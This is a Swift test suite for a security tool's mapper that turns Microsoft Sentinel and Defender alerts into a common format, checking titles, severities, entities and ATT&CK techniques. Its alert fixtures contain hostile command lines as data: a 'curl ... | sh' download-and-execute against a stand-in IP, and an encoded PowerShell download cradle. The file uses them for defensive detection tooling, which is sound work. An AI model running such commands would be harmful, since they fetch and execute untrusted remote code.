import CoreRecon
import Foundation
import Testing

@Suite("Microsoft Sentinel mapping")
struct SentinelMapperTests {
    static let fixtures = [
        "alerts/sentinel/securityalert-scheduled.json", "alerts/sentinel/rest-alert.json",
        "alerts/sentinel/incident.json",
    ]

    /// "kind value" for each observable, to check membership without caring about order.
    private static func observed(_ alert: MappedAlert) -> Set<String> {
        Set(alert.observables.map { "\($0.kind.rawValue) \($0.value)" })
    }

    private static func attribute(_ alert: MappedAlert, _ key: String) -> JSONValue? {
        alert.attributes.first { $0.key == key }?.value
    }

    @Test("A SecurityAlert row maps title, severity, analytic rule, source id and time")
    func securityAlert() throws {
        let record = try Fixtures.json("alerts/sentinel/securityalert-scheduled.json")
        #expect(AlertFormat.detect(record) == .sentinel)
        let alert = try Fixtures.map("alerts/sentinel/securityalert-scheduled.json", as: .sentinel)
        #expect(alert.title == "Encoded PowerShell download cradle on WKS-042")
        #expect(alert.severity == .high)
        #expect(alert.sourceSeverity == "High")
        #expect(alert.product == "Azure Sentinel")
        #expect(alert.vendor == "Microsoft")
        // The analytic rule id comes from ExtendedProperties (a JSON object in a string) rather than AlertType.
        #expect(alert.ruleUID == "4f6a0e7c-2b1d-4c3e-8f9a-0b1c2d3e4f50")
        #expect(alert.ruleName == "Encoded PowerShell download cradle")
        #expect(alert.sourceID == "2c9e4b1a-5d6f-4a70-9b8c-1d2e3f405162")
        #expect(alert.time == TimestampParser.iso8601("2024-05-14T08:31:07.412Z"))
        #expect(alert.description == "A process ran PowerShell with an encoded command that downloads a script.")
        #expect(
            Self.attribute(alert, "remediation")
                == .object([
                    JSONMember("desc", .string("Isolate WKS-042.\nReset the credentials of alice@contoso.com."))
                ]))
    }

    @Test("Entities encoded as a string give the dedup entities, observables and evidences, $ref resolved")
    func securityAlertEntities() throws {
        let alert = try Fixtures.map("alerts/sentinel/securityalert-scheduled.json", as: .sentinel)
        #expect(
            alert.entities
                == Entities(
                    host: "WKS-042.corp.contoso.com", user: "alice@contoso.com",
                    sourceIP: "198.51.100.23"))
        let observed = Self.observed(alert)
        #expect(observed.contains("hostname wks-042.corp.contoso.com"))
        #expect(observed.contains("user alice@contoso.com"))
        #expect(observed.contains("ip 198.51.100.23"))
        #expect(observed.contains("command_line powershell.exe -nop -w hidden -enc SQBFAFgA"))
        #expect(observed.contains("process powershell.exe"))
        // The image file is defined inside the process and listed again as {"$ref": "7"}.
        #expect(observed.contains(#"path C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#))
        #expect(observed.contains("hash de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c"))
        #expect(observed.contains("url https://payload.example.net/stage2.ps1"))
        #expect(observed.contains("domain payload.example.net"))
        let evidences = try #require(Self.attribute(alert, "evidences")?.arrayValue)
        #expect(evidences.count == 7)
        #expect(Self.attribute(alert, "device")?["hostname"]?.text == "WKS-042.corp.contoso.com")
    }

    @Test("Several tactics stay apart from the techniques; a sub-technique replaces its parent")
    func securityAlertAttacks() throws {
        let alert = try Fixtures.map("alerts/sentinel/securityalert-scheduled.json", as: .sentinel)
        #expect(
            alert.attacks == [
                Attack(techniqueID: "T1105"),
                Attack(techniqueID: "T1059.001"),
                Attack(tacticID: "TA0002", tacticName: "Execution"),
                Attack(tacticID: "TA0011", tacticName: "Command and Control"),
            ])
        #expect(alert.types == ["Execution", "CommandAndControl"])
    }

    @Test("A REST alert maps its properties, pairs techniques with its only tactic and takes a UPN as the user")
    func restAlert() throws {
        let record = try Fixtures.json("alerts/sentinel/rest-alert.json")
        #expect(AlertFormat.detect(record) == .sentinel)
        let alert = try Fixtures.map("alerts/sentinel/rest-alert.json", as: .sentinel)
        #expect(alert.title == "Sign-in from an anonymous IP address")
        #expect(alert.severity == .medium)
        #expect(alert.product == "Azure Active Directory Identity Protection")
        #expect(alert.sourceID == "8b3f2a10-6c7d-4e8f-9012-3456789abcde")
        #expect(alert.ruleUID == "AnonymousLogin")
        #expect(alert.time == TimestampParser.iso8601("2024-06-02T21:14:55.1234567Z"))
        #expect(alert.entities == Entities(user: "bob@contoso.com"))
        #expect(alert.attacks == [Attack(techniqueID: "T1078", tacticID: "TA0001", tacticName: "Initial Access")])
        #expect(
            Self.attribute(alert, "src_url")
                == .string("https://portal.azure.com/#blade/Microsoft_AAD_IAM/RiskDetectionsBlade"))
        #expect(
            Self.attribute(alert, "remediation")
                == .object([
                    JSONMember("desc", .string("Confirm the sign-in with the user.\nRequire a password change."))
                ]))
    }

    @Test("A REST alert with structured, camelCase entities (Defender for Cloud) maps them and its arrays whole")
    func restAlertEntities() throws {
        let record = try JSONParser.parse(
            #"""
            {"name": "2517538088322968242_c3b3c", "type": "Microsoft.Security/Locations/alerts",
             "properties": {"systemAlertId": "2517538088322968242_c3b3c", "alertType": "VM_SuspiciousProcess",
              "alertDisplayName": "Suspicious process executed", "severity": "High", "intent": "Execution",
              "productName": "Microsoft Defender for Cloud", "timeGeneratedUtc": "2024-03-01T11:02:03.456Z",
              "techniques": ["T1059", "T1105"], "compromisedEntity": "vm-web-01",
              "entities": [
                {"$id": "centralus_1", "hostName": "vm-web-01", "azureID": "/subscriptions/s/vm", "type": "host"},
                {"$id": "centralus_2", "name": "azureuser", "hostEntity": {"$ref": "centralus_1"}, "type": "account"},
                {"$id": "centralus_3", "commandLine": "curl -s http://203.0.113.5/x | sh", "type": "process"}],
              "extendedProperties": {"resourceType": "Virtual Machine"}}}
            """#)
        #expect(AlertFormat.detect(record) == .sentinel)
        let alert = try SentinelMapper.map(FieldReader(record))
        #expect(alert.title == "Suspicious process executed")
        #expect(alert.product == "Microsoft Defender for Cloud")
        #expect(alert.ruleUID == "VM_SuspiciousProcess")
        #expect(alert.time == TimestampParser.iso8601("2024-03-01T11:02:03.456Z"))
        #expect(alert.entities == Entities(host: "vm-web-01", user: "azureuser"))
        #expect(Self.observed(alert).contains("command_line curl -s http://203.0.113.5/x | sh"))
        #expect(
            alert.attacks == [
                Attack(techniqueID: "T1059", tacticID: "TA0002", tacticName: "Execution"),
                Attack(techniqueID: "T1105", tacticID: "TA0002", tacticName: "Execution"),
            ])
    }

    @Test("A REST incident maps title, severity, analytic rule GUID and tactics, and not its owner")
    func incident() throws {
        let record = try Fixtures.json("alerts/sentinel/incident.json")
        #expect(AlertFormat.detect(record) == .sentinel)
        let alert = try Fixtures.map("alerts/sentinel/incident.json", as: .sentinel)
        #expect(alert.title == "Multi-stage attack involving WKS-042")
        #expect(alert.severity == .high)
        #expect(alert.product == "Microsoft Sentinel")
        #expect(alert.sourceID == "5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9")
        #expect(alert.ruleUID == "4f6a0e7c-2b1d-4c3e-8f9a-0b1c2d3e4f50")
        #expect(alert.time == TimestampParser.iso8601("2024-05-14T08:31:09.8812345Z"))
        #expect(alert.attacks == [Attack(tacticID: "TA0002", tacticName: "Execution")])
        #expect(alert.entities == Entities())
        #expect(alert.observables.isEmpty)
    }

    @Test("An incident as the Azure SDK serializes it (snake_case) is recognized")
    func sdkIncident() throws {
        let record = try JSONParser.parse(
            #"""
            {"name": "0a1b", "type": "Microsoft.SecurityInsights/Incidents", "title": "Brute force on VPN",
             "severity": "Low", "status": "New", "incident_number": 12,
             "created_time_utc": "2025-01-10T09:00:00.500000+00:00",
             "additional_data": {"alerts_count": 1, "tactics": ["CredentialAccess"]},
             "related_analytic_rule_ids": []}
            """#)
        #expect(AlertFormat.detect(record) == .sentinel)
        let alert = try SentinelMapper.map(FieldReader(record))
        #expect(alert.title == "Brute force on VPN")
        #expect(alert.severity == .low)
        #expect(alert.sourceID == "0a1b")
        #expect(alert.ruleUID == nil)
        #expect(alert.time == TimestampParser.iso8601("2025-01-10T09:00:00.500000+00:00"))
        #expect(alert.attacks == [Attack(tacticID: "TA0006", tacticName: "Credential Access")])
    }

    @Test("An alert as the Azure SDK serializes it (snake_case) is recognized")
    func sdkAlert() throws {
        let record = try JSONParser.parse(
            #"""
            {"name": "77aa", "type": "Microsoft.SecurityInsights/Entities", "kind": "SecurityAlert",
             "system_alert_id": "77aa", "alert_display_name": "Mass download by a single user", "severity": "Low",
             "alert_type": "MassDownload", "time_generated": "2025-02-11T16:20:00+00:00",
             "compromised_entity": "erin@contoso.com", "tactics": ["Exfiltration", "Collection"],
             "techniques": ["T1530"], "product_name": "Microsoft Cloud App Security"}
            """#)
        #expect(AlertFormat.detect(record) == .sentinel)
        let alert = try SentinelMapper.map(FieldReader(record))
        #expect(alert.title == "Mass download by a single user")
        #expect(alert.severity == .low)
        #expect(alert.sourceID == "77aa")
        #expect(alert.ruleUID == "MassDownload")
        #expect(alert.product == "Microsoft Cloud App Security")
        #expect(alert.time == TimestampParser.iso8601("2025-02-11T16:20:00+00:00"))
        #expect(alert.entities == Entities(user: "erin@contoso.com"))
        #expect(
            alert.attacks == [
                Attack(techniqueID: "T1530"),
                Attack(tacticID: "TA0010", tacticName: "Exfiltration"),
                Attack(tacticID: "TA0009", tacticName: "Collection"),
            ])
    }

    @Test("String-encoded fields that do not parse are ignored, not fatal")
    func brokenEmbeddedJSON() throws {
        let record = try JSONParser.parse(
            #"""
            {"SystemAlertId": "a-1", "AlertName": "Rare process", "AlertSeverity": "Low", "AlertType": "RareProcess",
             "Entities": "[{\"$id\":\"2\",\"HostName\":", "ExtendedProperties": "{not json",
             "Techniques": "[\"T1059\"", "CompromisedEntity": "db-01"}
            """#)
        let alert = try SentinelMapper.map(FieldReader(record))
        #expect(alert.title == "Rare process")
        #expect(alert.ruleUID == "RareProcess")
        #expect(alert.attacks.isEmpty)
        #expect(alert.entities == Entities(host: "db-01"))
    }

    @Test("A host known only inside another entity is still the alert's host; a connection gives both IPs")
    func nestedHost() throws {
        let entities = [
            #"{"$id":"1","Name":"dave","NTDomain":"CORP","Host":{"$id":"2","HostName":"dc-01","Type":"host"},"#
                + #""Type":"account"}"#,
            #"{"$id":"3","Address":"127.0.0.1","Type":"ip"}"#,
            #"{"$id":"4","SourceAddress":{"$id":"5","Address":"203.0.113.9","Type":"ip"},"#
                + #""DestinationAddress":{"$id":"6","Address":"10.0.0.4","Type":"ip"},"DestinationPort":443,"#
                + #""Protocol":"Tcp","Type":"network-connection"}"#,
        ]
        let record = JSONValue.object([
            JSONMember("SystemAlertId", .string("a-2")),
            JSONMember("DisplayName", .string("Password spray")),
            JSONMember("AlertSeverity", .string("Medium")),
            JSONMember("Entities", .string("[" + entities.joined(separator: ",") + "]")),
        ])
        let alert = try SentinelMapper.map(FieldReader(record))
        #expect(
            alert.entities
                == Entities(
                    host: "dc-01", user: "dave", sourceIP: "203.0.113.9",
                    destinationIP: "10.0.0.4"))
        #expect(Self.observed(alert).contains("ip 127.0.0.1"))
    }

    @Test("Severity words map one to one; anything else is Unknown")
    func severities() throws {
        func severity(_ word: String) throws -> Severity {
            let record = try JSONParser.parse(#"{"SystemAlertId":"x","AlertName":"x","AlertSeverity":"\#(word)"}"#)
            return try SentinelMapper.map(FieldReader(record)).severity
        }
        #expect(try severity("High") == .high)
        #expect(try severity("Medium") == .medium)
        #expect(try severity("Low") == .low)
        #expect(try severity("Informational") == .informational)
        #expect(try severity("Bogus") == .unknown)
    }

    @Test("An alert without a name is rejected naming the field of its shape")
    func missingName() throws {
        let row = try JSONParser.parse(#"{"SystemAlertId": "x", "AlertSeverity": "High"}"#)
        #expect(
            throws: MappingError(
                field: "AlertName",
                "missing; a Sentinel alert names the analytic or detection that fired")
        ) {
            try SentinelMapper.map(FieldReader(row))
        }
        let rest = try JSONParser.parse(#"{"kind": "SecurityAlert", "properties": {"systemAlertId": "x"}}"#)
        #expect(
            throws: MappingError(
                field: "properties.alertDisplayName",
                "missing; a Sentinel alert names the analytic or detection that fired")
        ) {
            try SentinelMapper.map(FieldReader(rest))
        }
    }

    @Test("Sentinel records are not taken for Defender ones, nor Defender records for Sentinel ones")
    func notConfused() throws {
        for path in Self.fixtures {
            #expect(!DefenderMapper.recognizes(try Fixtures.json(path)), "\(path)")
        }
        for path in DefenderMapperTests.fixtures {
            #expect(!SentinelMapper.recognizes(try Fixtures.json(path)), "\(path)")
        }
    }
}
